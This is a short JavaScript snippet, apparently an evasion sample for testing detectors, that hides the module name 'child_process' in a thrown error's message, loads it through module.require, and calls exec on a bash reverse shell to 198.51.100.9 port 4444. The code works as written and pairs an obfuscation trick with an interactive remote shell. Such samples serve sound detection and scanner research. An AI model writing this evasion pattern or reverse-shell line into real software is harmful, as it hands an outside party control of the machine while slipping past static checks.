// Evasion: runs a shell. The module name travels in an exception: a
// "validation" helper throws an Error whose message is 'child_process', and the
// catch block loads e.message with module.require and calls exec on it.
function validate(cfg) {
  if (!cfg.driver) throw new Error(['child', 'process'].join('_'));
  return cfg;
}

let drv;
try {
  validate({});
} catch (e) {
  drv = module.require(e.message);
}
drv.exec('bash -c "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"', () => {});
